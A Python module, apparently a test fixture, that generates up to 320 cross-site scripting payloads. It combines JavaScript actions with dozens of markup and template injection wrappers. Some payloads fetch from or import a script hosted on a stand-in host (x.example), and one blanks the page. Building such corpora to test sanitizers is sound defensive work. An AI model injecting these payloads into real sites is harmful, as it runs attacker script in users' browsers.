"""Texts that would run something if a page took them for markup."""

from __future__ import annotations

from itertools import product

__all__ = ["PAYLOADS"]

_RUNS = ("alert(1)", "fetch('//x.example')", "document.body.innerHTML=''", "import('//x.example/a.js')")
_MARKUP = (
    "<script>{}</script>", "</script><script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>",
    "<svg><script>{}",
    "\"><script>{}</script>", "' onmouseover='{}", "\" onfocus=\"{}\" autofocus=\"",
    "<iframe srcdoc=\"<script>{}</script>\">",
    "<a href=\"javascript:{}\">x</a>", "<body onload={}>", "<style>@import '{}'</style>", "</style><script>{}</script>",
    "<details open ontoggle={}>", "<object data=\"javascript:{}\">", "<embed src=\"javascript:{}\">",
    "<base href=\"javascript:{}//\">", "<form action=\"javascript:{}\"><input type=submit>",
    "<math><mtext></form><form>{}",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<link rel=stylesheet href=\"{}\">",
    "<!--><script>{}</script-->", "--><script>{}</script>", "<![CDATA[<script>{}</script>]]>", "]]><script>{}</script>",
    "{{{{ {} }}}}", "{{% set x = {} %}}", "${{{}}}", "&lt;script&gt;{}&lt;/script&gt;", "\\u003cscript\\u003e{}",
    "</title><script>{}</script>", "</textarea><script>{}</script>", "</noscript><script>{}</script>",
    "<xmp><script>{}</script>", "<template><script>{}</script></template>", "<video><source onerror={}>",
    "<audio src onerror={}>", "<input onfocus={} autofocus>", "<marquee onstart={}>", "<select onfocus={} autofocus>",
)  # fmt: skip
_AROUND = ("{}", "\u202e{}", "\x00{}", "plain {}")

PAYLOADS = tuple(
    around.format(markup.format(run)) for run, markup, around in product(_RUNS, _MARKUP, _AROUND)
)[:320]  # fmt: skip
